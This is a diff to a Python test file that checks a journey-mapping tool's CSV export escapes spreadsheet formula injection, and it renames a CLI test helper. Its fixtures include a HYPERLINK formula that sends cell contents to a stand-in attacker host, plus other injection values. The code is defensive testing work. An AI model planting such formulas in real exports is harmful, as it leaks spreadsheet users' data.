@@ -11,8 +11,7 @@ import io
 import pytest
 
 from journey import csvsafe, exchange, formulas, kpis, samples
-
-from .test_cli import cli
+from tests.conftest import run_cli
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Open")',
@@ -106,14 +105,14 @@ def test_every_csv_export_escapes_the_hostile_cells(store, hostile_journey_id):
 
 def test_the_command_line_csv_export_escapes_formula_cells(tmp_path):
     db = tmp_path / "c.db"
-    cli("init", "--seed", db=db)
+    run_cli("init", "--seed", db=db)
     doc = samples.load_sample("car-buying")
     doc["journeys"][0]["stages"][0]["moments"].append(
         {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"}
     )
     path = tmp_path / "formula-cells.json"
     path.write_text(exchange.dumps(doc))
-    assert cli("import", str(path), db=db).returncode == 0
-    out = cli("export", "--journey", "4", "--csv", "moments", db=db).stdout
+    assert run_cli("import", str(path), db=db).returncode == 0
+    out = run_cli("export", "--journey", "4", "--csv", "moments", db=db).stdout
     [row] = [r for r in cells(out) if "HYPERLINK" in ",".join(r)]
     assert row[2] == "'" + HOSTILE[0] and row[6] == "'+1+1" and row[7] == "'@SUM(A1)"
